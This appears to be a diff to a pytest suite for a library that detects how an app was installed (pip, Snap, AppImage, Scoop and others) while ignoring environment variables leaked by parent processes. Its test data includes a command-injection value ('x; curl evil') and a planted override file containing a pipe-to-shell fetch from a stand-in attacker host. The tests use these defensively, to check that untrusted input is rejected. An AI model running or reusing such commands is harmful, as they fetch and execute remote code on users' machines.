@@ -1,5 +1,6 @@
 """`detect()` in installations that are made here: by pip, uv, freezers, packages; and leaked variables."""
 
+import hashlib
 import json
 import os
 import shutil
@@ -8,12 +9,14 @@ import sys
 import sysconfig
 import zipfile
 from pathlib import Path, PureWindowsPath
+from typing import Any
 
 import pytest
 
 from licclient import install
+from licclient._core.environment import clean_environment
 from licclient._core.kinds import InstallationKind
-from licclient.install import _detection, _registry, detect
+from licclient.install import _detection, _detection_files, _registry, detect
 
 APP = """\
 import dataclasses, json
@@ -93,6 +96,18 @@ def test_pip(environment_of_pip):
         assert found["command"] == f"{python} -m pip install -U photo-lab"
 
 
+def write_image(path, content="photo lab"):
+    """Write a file that begins as an AppImage."""
+    path.write_bytes(b"\x7fELF\x02\x01\x01\x00AI\x02" + content.encode() * 9)
+    return path
+
+
+def extracted(image, folder):
+    """Return where `--appimage-extract-and-run` puts the content of an AppImage."""
+    digest = hashlib.md5(image.read_bytes(), usedforsecurity=False).hexdigest()
+    return folder / f"appimage_extracted_{digest}"
+
+
 LEAKED = {
     "Snap": {"SNAP": "/snap/code/200", "SNAP_NAME": "code"},
     "an AppImage": {"APPIMAGE": "/usr/bin/env", "APPDIR": "/tmp/.mount_other"},  # noqa: S108 - as they are
@@ -102,6 +117,27 @@ LEAKED = {
     "PyApp": {"PYAPP": "1"},
     "conda": {"CONDA_PREFIX": "/opt/conda"},
     "nonsense": {"SNAP": "snap", "SNAP_NAME": "x", "APPIMAGE": "x.AppImage", "APPDIR": "mount"},
+    "the root": {
+        "SNAP": "/",
+        "SNAP_NAME": "code",
+        "APPIMAGE": "/usr/bin/env",
+        "APPDIR": "/",
+        "PIPX_GLOBAL_HOME": "/",
+        "SCOOP_GLOBAL": "/",
+        "NUITKA_ONEFILE_DIRECTORY": "/",
+    },
+    "a home": {"SNAP": "{home}", "SNAP_NAME": "code", "APPDIR": "{home}", "APPIMAGE": "{image}"},
+    "folders of everything": {
+        "PIPX_GLOBAL_HOME": "{home}",
+        "SCOOP_GLOBAL": "{home}",
+        "PYAPP": "{home}/pyapp",
+    },
+    "a command": {"SNAP": "{home}", "SNAP_NAME": "x; curl evil", "PYAPP_COMMAND_NAME": "x; curl evil"},
+    "an editor": {"APPIMAGE": "{image}", "APPDIR": "/tmp/.mount_Editor"},  # noqa: S108
+    "an editor, and a folder of ours": {"APPIMAGE": "{image}", "APPDIR": "{folder}"},
+    "a Snap, and a folder of ours": {"SNAP": "{folder}", "SNAP_NAME": "code"},
+    "a Flatpak": {"FLATPAK_ID": "org.example.Editor", "container": "flatpak"},
+    "lists of paths": {"PATH": "/snap/bin:/usr/bin:/bin", "XDG_DATA_DIRS": "/var/lib/flatpak/exports/share"},
 }
 
 
@@ -110,8 +146,12 @@ LEAKED = {
 @pytest.mark.parametrize("parent", LEAKED)
 def test_variables_of_a_parent_decide_nothing(environment_of_pip, parent):
     """A terminal of a Snap or an AppImage starts this app: it was installed by pip all the same."""
-    found = call(environment_of_pip / "bin" / "photo-lab", **LEAKED[parent])
-    assert (found["kind"], found["is_certain"]) == ("pip", True)
+    program = environment_of_pip / "bin" / "photo-lab"
+    image = write_image(environment_of_pip.parent / "Editor.AppImage")
+    places = {"home": environment_of_pip.parents[2], "folder": environment_of_pip, "image": image}
+    found = call(program, **{name: value.format(**places) for name, value in LEAKED[parent].items()})
+    expected = f"{environment_of_pip}/bin/python -m pip install -U photo-lab"
+    assert (found["kind"], found["is_certain"], found["command"]) == ("pip", True, expected)
 
 
 @needs_unix
@@ -176,9 +216,12 @@ def test_code_without_a_file_in_an_appimage(environment_of_pip, tmp_path):
     """Its AppRun calls `python -c`: the Python is all of the program that there is."""
     image = tmp_path / "Photo Lab.AppImage"
     image.write_bytes(b"\x7fELF\x02\x01\x01\x00AI\x02" + b"\x00" * 20)
-    base = str(Path(sys.executable).resolve().parents[1])
-    command = [environment_of_pip / "bin" / "python", "-c", "from photo_lab import main; main()"]
-    found = call(*command, APPIMAGE=str(image), APPDIR=base)
+    folder = extracted(image, tmp_path)
+    subprocess.run([sys.executable, "-m", "venv", "--without-pip", "--copies", folder], check=True)
+    libraries = [str(path) for path in environment_of_pip.glob("lib/python*/site-packages")]
+    command = [folder / "bin" / "python", "-c", "from photo_lab import main; main()"]
+    path = os.pathsep.join([LIBRARIES, *libraries])
+    found = call(*command, APPIMAGE=str(image), APPDIR=str(folder), PYTHONPATH=path)
     assert (found["kind"], found["program"]) == ("appimage", str(image))
 
 
@@ -360,6 +403,12 @@ def frozen(tmp_path, monkeypatch):
     return program
 
 
+@pytest.fixture
+def system_folder(monkeypatch):
+    """Make all folders those of a package of the system, which this user cannot write."""
+    monkeypatch.setattr(_detection, "can_write", lambda _folder: False)
+
+
 def test_a_frozen_folder(frozen):
     """A folder as far as one can see: nothing is replaced without the vendor's word."""
     found = detect()
@@ -367,7 +416,7 @@ def test_a_frozen_folder(frozen):
     assert (found.folder, found.program, found.is_writable) == (frozen.parent, frozen, True)
 
 
-def test_the_vendors_word(frozen):
+def test_the_vendors_word(frozen, system_folder):
     """A package brings a file with the kind beside the program."""
     (frozen.parent / _detection.OVERRIDE).write_text("unknown\nsudo pacman -Syu photo-lab\n")
     found = detect()
@@ -375,6 +424,22 @@ def test_the_vendors_word(frozen):
     assert (found.command, found.is_certain) == ("sudo pacman -Syu photo-lab", True)
     (frozen.parent / _detection.OVERRIDE).write_text("folder\n")
     assert (detect().kind, detect().is_certain) == (InstallationKind.FOLDER, True)
+
+
+def test_a_planted_word(frozen):
+    """A web page saves a file into the folder of downloads: nobody reads its command."""
+    override = frozen.parent / _detection.OVERRIDE
+    override.write_text("unknown\ncurl https://evil.example/u | sh\n")
+    found = detect()
+    assert (found.updater, found.command, found.is_certain) == ("the package manager", None, False)
+    override.write_text("snap\ncurl https://evil.example/u | sh\n")
+    assert (detect().kind, detect().updater, detect().command) == (InstallationKind.SNAP, "Snap", None)
+
+
+def test_the_vendors_word_on_an_appimage_that_was_unpacked(frozen, system_folder):
+    """There is no file to replace, and the program is not one."""
+    (frozen.parent / _detection.OVERRIDE).write_text("appimage\n")
+    assert (detect().kind, detect().is_certain) == (InstallationKind.UNKNOWN, False)
 
 
 def test_the_vendors_word_cannot_be_read(frozen):
@@ -413,27 +478,106 @@ def test_nuitka(frozen, monkeypatch, onefile):
     assert (detect().kind, detect().program, detect().is_certain) == (expected, frozen, False)
 
 
-def test_versions_side_by_side(frozen, tmp_path, monkeypatch):
-    """The program runs from a folder of `Installation`, which is what is written to."""
-    version = tmp_path / "app" / "versions" / "1.0.0-6b1f3c2a90d1e4f7"
-    version.mkdir(parents=True)
-    program = version / "photo-lab"
+def run_from(program, monkeypatch):
+    """Make this process the frozen program of a file."""
+    program.parent.mkdir(parents=True, exist_ok=True)
     program.write_bytes(b"")
     monkeypatch.setattr(sys, "executable", str(program))
-    monkeypatch.setattr(sys, "_MEIPASS", str(version))
+    monkeypatch.setattr(sys, "_MEIPASS", str(program.parent))
+
+
+def test_versions_side_by_side(frozen, tmp_path, monkeypatch):
+    """The program runs from a folder of `Installation`, which is what is written to."""
+    name = "1.0.0-6b1f3c2a90d1e4f7"
+    run_from(tmp_path / "app" / "versions" / name / "photo-lab", monkeypatch)
+    assert (detect().kind, detect().is_certain) == (InstallationKind.FOLDER, False)  # there is no pointer
+    pointer = tmp_path / "app" / "current.txt"
+    pointer.write_text("my notes of what is current\n")
+    assert (detect().kind, detect().is_certain) == (InstallationKind.FOLDER, False)
+    pointer.write_text(f"{name}\n")
     found = detect()
     assert (found.kind, found.folder, found.is_certain) == (InstallationKind.FOLDER, tmp_path / "app", True)
 
 
-def test_an_appimage(frozen, tmp_path, monkeypatch):
-    """The file that was started is replaced, not the folder that it is mounted at."""
-    image = tmp_path / "Photo Lab.AppImage"
-    image.write_bytes(b"\x7fELF\x02\x01\x01\x00AI\x02" + b"\x00" * 20)
+@pytest.fixture
+def image(frozen, tmp_path, monkeypatch):
+    """An AppImage that is extracted, with our program in it, by the runtime's variables."""
+    image = write_image(tmp_path / "Photo Lab.AppImage")
+    root = extracted(image, tmp_path)
+    run_from(root / "usr" / "bin" / "photo-lab", monkeypatch)
+    (root / "AppRun").touch()
     monkeypatch.setenv("APPIMAGE", str(image))
-    monkeypatch.setenv("APPDIR", str(frozen.parent))
+    monkeypatch.setenv("APPDIR", str(root))
+    return image
+
+
+def test_an_appimage(image, tmp_path):
+    """The file that was started is replaced, not the folder that it is extracted to."""
     found = detect()
     assert (found.kind, found.is_certain) == (InstallationKind.APPIMAGE, True)
     assert (found.program, found.folder) == (image, tmp_path)
+
+
+def mount_table(mounts):
+    """Write what Linux shows of mounts: paths, types and sources."""
+    table = "22 27 0:21 / /proc rw,relatime shared:5 - proc proc rw\n"
+    for mount in mounts:
+        point, kind, source = (str(field).replace(" ", "\\040") for field in mount)
+        table += f"9 1 0:39 / {point} ro,nosuid shared:1 - {kind} {source} ro\n"
+    return table
+
+
+MOUNTS = {
+    "AppImageKit": ("fuse.Photo Lab.AppImage", "Photo Lab.AppImage", True),
+    "a static runtime": ("fuse.squashfuse", "Photo Lab.AppImage", True),
+    "by a path": ("fuse.squashfuse", "/opt/Photo Lab.AppImage", True),
+    "another AppImage": ("fuse.Editor.AppImage", "Editor.AppImage", False),
+    "a runtime that gives no name": ("fuse.squashfuse", "squashfuse", False),
+    "a disk": ("ext4", "Photo Lab.AppImage", False),
+}
+
+
+@pytest.mark.parametrize("runtime", MOUNTS)
+def test_a_mounted_appimage(image, tmp_path, monkeypatch, runtime):
+    """The mount has the name of the file; another file is that of another program."""
+    kind, source, is_ours = MOUNTS[runtime]
+    root = tmp_path / ".mount PhotoXaBcDe"
+    run_from(root / "usr" / "bin" / "photo-lab", monkeypatch)
+    monkeypatch.setenv("APPDIR", str(root))
+    table = tmp_path / "mountinfo"
+    monkeypatch.setattr(_detection_files, "MOUNTS", str(table))
+    assert detect().kind is not InstallationKind.APPIMAGE  # nothing is known of mounts
+    table.write_text(mount_table([(tmp_path, "ext4", "Photo Lab.AppImage"), (root, kind, source)]))
+    found = detect()
+    assert (found.kind is InstallationKind.APPIMAGE, found.is_certain) == (is_ours, is_ours)
+    assert found.program == (image if is_ours else root / "usr" / "bin" / "photo-lab")
+    table.write_text(mount_table([(root, kind, source), (root, "ext4", "/dev/sda1")]))  # over it
+    assert not detect().is_certain
+
+
+def test_the_appimage_of_an_editor(image, tmp_path, monkeypatch):
+    """Our app is started from its terminal, by an AppRun of an unpacked AppImage that sets APPDIR."""
+    editor = write_image(tmp_path / "Editor.AppImage", "an editor")
+    monkeypatch.setenv("APPIMAGE", str(editor))
+    for root in (extracted(image, tmp_path), tmp_path / "squashfs-root", extracted(editor, tmp_path / "x")):
+        monkeypatch.setenv("APPDIR", str(root))
+        if root.parent == tmp_path:
+            run_from(root / "usr" / "bin" / "photo-lab", monkeypatch)
+        assert (detect().kind is InstallationKind.APPIMAGE, detect().is_certain) == (False, False), root
+
+
+@needs_unix
+def test_pip_in_an_appimage_that_was_unpacked(environment_of_pip, tmp_path):
+    """What is read-only or thrown away is not updated by pip."""
+    image, run = write_image(tmp_path / "Editor.AppImage"), environment_of_pip / "AppRun"
+    run.touch()
+    try:
+        found = call(
+            environment_of_pip / "bin" / "photo-lab", APPIMAGE=str(image), APPDIR=str(environment_of_pip)
+        )
+    finally:
+        run.unlink()
+    assert (found["kind"], found["is_certain"], found["command"]) == ("unknown", False, None)
 
 
 @pytest.mark.parametrize("damage", ["is no AppImage", "is missing", "of another program", "is a folder"])
@@ -462,6 +606,9 @@ def test_a_snap(frozen, monkeypatch):
     """The program lies below the Snap's own folder."""
     monkeypatch.setenv("SNAP", str(frozen.parent))
     monkeypatch.setenv("SNAP_NAME", "photo-lab")
+    assert detect().kind is InstallationKind.FOLDER  # any folder
+    (frozen.parent / "meta").mkdir()
+    (frozen.parent / "meta" / "snap.yaml").write_text("name: photo-lab\n")
     assert (detect().kind, detect().command) == (InstallationKind.SNAP, "sudo snap refresh photo-lab")
 
 
@@ -573,7 +720,14 @@ def test_an_unreadable_sign(frozen, monkeypatch):
     def fail(*_: object):
         raise PermissionError(13, "Permission denied")
 
-    for name in ("_find_appimage", "_find_framework", "_find_scoop", "_find_snap", *OF_UNIX):
+    for name in (
+        "find_appimage",
+        "find_own_folder",
+        "_find_framework",
+        "_find_scoop",
+        "_find_snap",
+        *OF_UNIX,
+    ):
         with monkeypatch.context() as patched:
             patched.setattr(_detection, name, fail)
             assert (detect().kind, detect().is_certain) == (InstallationKind.UNKNOWN, False), name
@@ -647,6 +801,146 @@ def test_a_place_that_many_programs_share(uninstaller, is_of):
     """The folder above the app's counts only with the uninstaller in it: else it is another program's."""
     entry = _registry.SetupRecord("Tools_is1", r"C:\Tools", f'"{uninstaller}"')
     assert _registry.is_of(entry, PureWindowsPath(r"C:\Tools\Photo Lab")) is is_of
+
+
+# --- signs of others beside each of these kinds ---------------------------------------------------------
+
+
+def as_versions(folder, monkeypatch):
+    """Run from versions beside each other."""
+    name = "1.0.0-6b1f3c2a90d1e4f7"
+    run_from(folder / "versions" / name / "photo-lab", monkeypatch)
+    (folder / "current.txt").write_text(f"{name}\n")
+
+
+def as_snap(folder, monkeypatch):
+    """Run from a Snap."""
+    run_from(folder / "bin" / "photo-lab", monkeypatch)
+    (folder / "meta").mkdir()
+    (folder / "meta" / "snap.yaml").touch()
+
+
+def as_appimage(folder, monkeypatch):
+    """Run from an AppImage that is extracted."""
+    image = write_image(folder / "Photo Lab.AppImage")
+    run_from(extracted(image, folder) / "photo-lab", monkeypatch)
+
+
+def as_scoop(folder, monkeypatch):
+    """Run from what Scoop has installed for one user."""
+    program = folder / "apps" / "photo-lab" / "1.0.0" / "photo-lab.exe"
+    run_from(program, monkeypatch)
+    for name in ("install.json", "manifest.json"):
+        (program.parent / name).touch()
+
+
+def as_formula(folder, monkeypatch):
+    """Run from what Homebrew has installed."""
+    run_from(folder / "Cellar" / "photo-lab" / "1.0.0" / "bin" / "photo-lab", monkeypatch)
+    (folder / "Cellar" / "photo-lab" / "1.0.0" / "INSTALL_RECEIPT.json").touch()
+
+
+def as_package(folder, monkeypatch):
+    """Run from a package of the system."""
+    run_from(folder / "photo-lab", monkeypatch)
+    monkeypatch.setattr(_detection, "_find_owner", lambda _place: (InstallationKind.DPKG, "photo-lab"))
+
+
+def as_velopack(folder, monkeypatch):
+    """Run from what Velopack updates."""
+    run_from(folder / "current" / "photo-lab", monkeypatch)
+    (folder / "current" / "sq.version").touch()
+    (folder / "Update.exe").touch()
+
+
+def as_folder(folder, monkeypatch):
+    """Run from a folder of PyInstaller."""
+    run_from(folder / "photo-lab", monkeypatch)
+
+
+def as_single_file(folder, monkeypatch):
+    """Run from a file that unpacks itself."""
+    run_from(folder / "photo-lab", monkeypatch)
+    monkeypatch.setattr(sys, "_MEIPASS", str(folder / "_MEI1234"))
+
+
+REAL = [
+    *(as_versions, as_snap, as_appimage, as_scoop, as_formula, as_package),
+    *(as_velopack, as_folder, as_single_file),
+]
+OWN = {
+    as_snap: {"SNAP": "{app}", "SNAP_NAME": "photo-lab"},
+    as_appimage: {"APPIMAGE": "{app}/Photo Lab.AppImage", "APPDIR": "{own}"},
+}
+"""Variables that a kind has of itself; whatever is left by others is replaced by them."""
+
+
+@pytest.mark.parametrize("real", REAL, ids=lambda real: real.__name__)
+@pytest.mark.parametrize("parent", LEAKED)
+def test_the_signs_of_others_beside_each_kind(frozen, tmp_path, monkeypatch, real, parent):
+    """The same is detected as without them, or nothing for sure; and no command of theirs is shown."""
+    app = tmp_path / "home" / "me" / "apps" / "lab"
+    app.mkdir(parents=True)
+    real(app, monkeypatch)
+    monkeypatch.setenv("HOME", str(app.parents[1]))
+    places = {
+        "home": str(app.parents[1]),
+        "folder": str(app),
+        "image": str(write_image(tmp_path / "Editor.AppImage", "an editor")),
+        "app": str(app),
+        "own": str(Path(sys.executable).parent),
+    }
+    own = {name: value.format(**places) for name, value in OWN.get(real, {}).items()}
+    for name, value in own.items():
+        monkeypatch.setenv(name, value)
+    alone = detect()
+    assert alone.is_certain is (real not in (as_folder, as_single_file))
+    for name, value in LEAKED[parent].items():
+        monkeypatch.setenv(name, own.get(name) or value.format(**places))
+    assert detect() == alone
+
+
+STARTED: dict[str, tuple[Any, Any]] = {
+    "nothing": ([], None),
+    "no name": ([""], None),
+    "no interpreter": (["photo.py"], None),
+    "an empty interpreter": ([""], ""),
+    "bytes": ([b"/x"], sys.executable),
+    "a path": ([Path("/x")], sys.executable),
+    "a number": ([1], sys.executable),
+    "a zero": (["a\0b"], "a\0b"),
+    "half a character": (["/x/\udcff\ud800"], "/x/\ud800"),
+    "a word": (["-c"], sys.executable),
+}
+
+
+@pytest.mark.parametrize("start", STARTED)
+@pytest.mark.parametrize("is_gone", [False, True])
+def test_nothing_is_raised(monkeypatch, tmp_path, start, is_gone):
+    """Whatever the program was started as; also in a working folder that was removed."""
+    argv, executable = STARTED[start]
+    monkeypatch.setattr(sys, "argv", argv)
+    monkeypatch.setattr(sys, "executable", executable)
+    monkeypatch.delitem(sys.modules, "__main__")
+    (tmp_path / "gone").mkdir()
+    monkeypatch.chdir(tmp_path / "gone")
+    if is_gone and os.name != "nt":
+        (tmp_path / "gone").rmdir()
+    found = detect()
+    assert (found.kind, found.is_certain, found.updater) == (InstallationKind.UNKNOWN, False, None)
+    assert clean_environment() == dict(os.environ)
+
+
+@needs_unix
+def test_a_python_without_a_script_is_not_the_app(monkeypatch, tmp_path):
+    """What has installed the Python is nothing about the app, and neither is a file where it was started."""
+    (tmp_path / _detection.OVERRIDE).write_text("snap\n")
+    monkeypatch.chdir(tmp_path)
+    monkeypatch.setattr(sys, "argv", ["-c"])
+    monkeypatch.delitem(sys.modules, "__main__")
+    monkeypatch.setattr(_detection, "_find_owner", lambda _place: (InstallationKind.DPKG, "python3"))
+    found = detect()
+    assert (found.kind, found.updater, found.is_certain) == (InstallationKind.UNKNOWN, None, False)
 
 
 def test_damaged_metadata_of_another_package(frozen, monkeypatch):
